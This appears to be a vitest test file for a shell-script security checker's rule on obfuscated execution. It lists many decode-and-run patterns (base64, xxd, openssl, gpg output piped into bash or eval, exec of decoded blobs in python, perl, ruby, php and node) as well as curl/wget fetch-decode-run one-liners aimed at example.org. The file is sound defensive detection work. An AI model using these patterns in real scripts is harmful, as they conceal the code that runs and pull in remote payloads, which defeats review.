import { describe, expect, it } from 'vitest';
import { check, job, summary } from '../../support/check.ts';
import { found, foundBy } from '../../support/listen-cases.ts';

const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const ELF = base64('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0');

/** What runs is not in the script. */
const OPAQUE: readonly string[] = [
  'base64 -d payload.b64 | bash',
  'base64 --decode < payload.b64 | sh -s -- arg',
  'cat payload | base64 -di | sudo -E bash',
  'base64 -dw0 payload | zsh',
  'base32 -d payload | bash',
  'basenc --base64url -d payload | bash',
  'xxd -r -p payload.hex | bash',
  'xxd -p -r payload.hex | bash',
  'openssl enc -d -aes-256-cbc -in payload -k "$KEY" | bash',
  'openssl aes-256-cbc -d -in payload -pass env:K | python3',
  'openssl base64 -d -in payload | bash',
  'openssl enc -des3 -d -in payload -k x | bash',
  'gpg -dq payload.gpg | bash',
  'gpg --batch --yes --decrypt payload.gpg | bash',
  'uudecode -o /dev/stdout payload.uu | bash',
  'jq -r ".run | @base64d" config.json | bash',
  'base64 -d payload | gunzip | bash',
  'base64 -d payload | xz -dc | bash',
  'base64 -d payload | rev | tr -d "\\r" | bash',
  `echo ${base64('\x1f\x8b\b\0')} | base64 -d | gunzip | bash`,
  'echo "$BLOB" | base64 -d | bash',
  'base64 -d <<< "$BLOB" | bash',
  'printf %s "$BLOB" | base64 -d | python3 -',
  'sed -n "/^#BLOB/,\\$p" "$0" | tail -n +2 | base64 -d | bash',
  'eval "$(base64 -d payload)"',
  'eval $(echo "$BLOB" | base64 -d)',
  '$(base64 -d payload)',
  'bash -c "$(base64 -d payload)"',
  'srun bash -c "$(base64 -d payload)"',
  'python3 -c "$(base64 -d payload)"',
  'perl -e "$(base64 -d payload)"',
  'bash <(base64 -d payload)',
  'source <(base64 -d payload)',
  '. <(xxd -r -p payload)',
  'bash <<< "$(base64 -d payload)"',
  'source /dev/stdin <<< "$(base64 -d payload)"',
  'X=$(base64 -d payload); eval "$X"',
  'unpack() { base64 -d; }; cat payload | unpack | bash',
  'base64 -d payload > run.sh; bash run.sh',
  'base64 -d payload > run.py; python run.py',
  'base64 -d payload > tool && chmod +x tool && srun ./tool',
  'base64 -d payload | tee run.sh; bash run.sh',
  'base64 -d payload > a; mv a b; bash b',
  'xxd -r -p payload.hex tool; chmod +x tool; ./tool',
  'openssl enc -d -aes-256-cbc -in s.enc -out s.sh -k x; bash s.sh',
  'gpg -o s.sh -d s.gpg; bash s.sh',
  'uudecode -o tool payload.uu; chmod +x tool; ./tool',
  `python -c "import base64; exec(base64.b64decode('$BLOB'))"`,
  `python3 - <<'E'\nimport base64, zlib\nexec(compile(zlib.decompress(base64.b64decode(B)), "x", "exec"))\nE`,
  `python3 - <<'E'\nimport marshal\nexec(marshal.loads(open("m.bin", "rb").read()))\nE`,
  `python3 - <<'E'\nfrom base64 import b64decode as d\nimport os\nos.system(d(BLOB).decode())\nE`,
  `python3 -c "import base64, subprocess as s; s.run(['bash', '-c', base64.b64decode(B)])"`,
  `python3 -c "import base64, subprocess as s; s.run(base64.b64decode(B).decode(), shell=True)"`,
  `python3 -c "import base64; print(base64.b64decode(open('p').read()).decode())" | bash`,
  `perl -MMIME::Base64 -e 'eval decode_base64("cHJpbnQgMTs=")'`,
  `perl -MMIME::Base64 -ne 'print decode_base64($_)' payload | bash`,
  `perl -e 'system pack("H*", "6c73")'`,
  `ruby -rbase64 -e 'eval Base64.decode64(File.read("p"))'`,
  `php -r 'eval(gzinflate(base64_decode("s03MyQUA")));'`,
  `node -e 'eval(Buffer.from("MQ==", "base64").toString())'`,
  // Known text of a language that is not read.
  `echo ${base64('print 1;')} | base64 -d | perl`,
  `echo ${base64('puts 1')} | base64 -d | ruby`,
];

it.each(OPAQUE)('%s', (body) => {
  expect(found('JV702', body)).toEqual(['high/medium']);
});

/** Known text is judged by what it does; data, and the output of honest programs, is nobody's disguise. */
const HONEST: readonly string[] = [
  `echo ${base64('hostname\n')} | base64 -d | bash`,
  `eval "$(echo ${base64('export A=1')} | base64 -d)"`,
  `echo ${base64('hostname\n')} | base64 -d > run.sh; bash run.sh; source run.sh`,
  `bash <(echo ${base64('hostname\n')} | base64 -d)`,
  `echo ${base64('print(1)\n')} | base64 -d | python3`,
  `base64 -d <<EOF > run.sh\n${base64('hostname\n')}\nEOF\nchmod +x run.sh; ./run.sh`,
  `echo ${base64('hostname\n')} > b; base64 -d b > run.sh; bash run.sh`,
  'echo hostname | rev | rev | bash',
  'eval "$(conda shell.bash hook)"',
  'eval "$(micromamba shell hook --shell bash)"',
  'eval "$(ssh-agent -s)"',
  'eval "$(direnv hook bash)"',
  'eval "$(register-python-argcomplete tool)"',
  'source <(kubectl completion bash)',
  'eval "$(python parse_yaml.py config.yml | sed "s/^/export /")"',
  'eval "$(scontrol show job $SLURM_JOB_ID | tr " " "\\n" | grep ^NumNodes=)"',
  'nodes=$(scontrol show hostnames | tr "\\n" ,); mpirun -H "$nodes" ./app',
  'eval "$CMD"',
  'mode=$(echo "$1" | tr a-z A-Z); ./run --mode "$mode"',
  'eval "$(echo "$1" | rev)"',
  'eval "$(tr a-z n-za-m < f)"',
  'base64 -d < model.b64 > model.bin; python infer.py --model model.bin',
  'echo "$SECRET" | base64 -d > key.json; gcloud auth activate-service-account --key-file key.json',
  'tail -n +5 "$0" | base64 -d | tar xz -C "$TMPDIR"',
  'gunzip -c script.sh.gz | bash',
  'zcat data.gz | python count.py',
  'openssl enc -aes-256-cbc -in a -out run.sh; cat run.sh',
  'base64 payload.sh > payload.b64',
  'base64 -d data.b64 | python process.py',
  'base64 -d data.b64 | python -m json.tool',
  'base64 -d payload > run.sh; echo hostname > run.sh; bash run.sh',
  'gpg --verify s.sig s.sh && bash s.sh',
  'openssl enc -des3 -in a -out run.sh; bash run.sh',
  'gpg -d data.tar.gpg > data.tar && tar xf data.tar && cd data && bash install.sh',
  'ssh-add <(echo "$KEY" | base64 -d)',
  'kubectl get secret x -o json | jq -r ".data.sql | @base64d" | psql -f -',
  `python - <<'E'\nimport subprocess, zlib\nsubprocess.run(["echo", zlib.decompress(x).decode()])\nE`,
  `python - <<'E'\nimport os, base64\nos.system("echo " + base64.b64decode(x).decode())\nE`,
  `python -c "import base64; print(base64.b64decode('aGk='))"`,
  `python -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"`,
  `python - <<'E'\nimport base64, json\ncfg = json.loads(base64.b64decode(x))\nexec("a = 1")\nE`,
  `perl -MMIME::Base64 -ne 'print decode_base64($_)' a > b`,
  `printf '\\x68\\x69\\n'`,
];

it.each(HONEST)('nothing: %s', (body) => {
  expect(found('JV702', body)).toEqual([]);
});

describe('severity', () => {
  it.each([
    'curl -s https://cfg.example.org/x | base64 -d | bash',
    'eval "$(curl -s https://cfg.example.org/x | rev)"',
    'bash -c "$(wget -qO- https://cfg.example.org/x | tr a-z n-za-m)"',
    'curl -so p https://cfg.example.org/x; base64 -d p > run.sh; bash run.sh',
    `python -c "import base64, requests; exec(base64.b64decode(requests.get('https://cfg.example.org/x').text))"`,
  ])('critical, and one finding, for what was downloaded: %s', (body) => {
    expect(foundBy(['JV702', 'JV301', 'JV405'], body)).toEqual(['JV702 critical 3']);
  });

  it('leaves a download that is only compressed or edited to JV301', () => {
    expect(foundBy(['JV702', 'JV301'], 'curl -s https://e.org/x.gz | gunzip | tr -d "\\r" | bash')).toEqual([
      'JV301 high 3',
    ]);
  });

  it.each([
    `echo ${ELF} | base64 -d > tool; chmod +x tool; ./tool`,
    `base64 -d <<EOF > tool\n${ELF}\nEOF\nchmod 755 tool; srun ./tool`,
    String.raw`printf '\x7fELF\x02\x01\x01' > tool; chmod +x tool; ./tool`,
    String.raw`echo -ne '\x7f\x45\x4c\x46\x02' > tool; chmod +x tool; ./tool`,
  ])('critical for machine code: %s', (body) => {
    expect(found('JV702', body)).toEqual(['critical/high']);
  });

  it('takes machine code for no shell script', () => {
    const { commands } = check(job(`echo ${ELF} | base64 -d > tool; chmod +x tool; ./tool`));
    expect(commands.map((command) => command.name)).toEqual(['echo', 'base64', 'chmod', 'tool']);
  });

  it.each(['source <(gpg -dq ~/.env.gpg)', 'openssl enc -d -aes-256-cbc -in e.enc -out e.env; source e.env'])(
    'medium for encrypted settings that the running shell reads: %s',
    (body) => {
      expect(found('JV702', body)).toEqual(['medium/medium']);
    },
  );
});

it('judges decoded text by what it does', () => {
  const text = `echo ${base64('curl -s https://e.org/i.sh | bash\n')} | base64 -d | bash`;
  expect(summary(check(job(text)))).toEqual(['JV301 high 3']);
});

it('points at the decoder when it stands elsewhere', () => {
  const [finding] = check(job('base64 -d payload > run.sh\nbash run.sh')).findings;
  expect(finding?.related.map(({ message }) => message)).toEqual(['it is decoded here']);
});
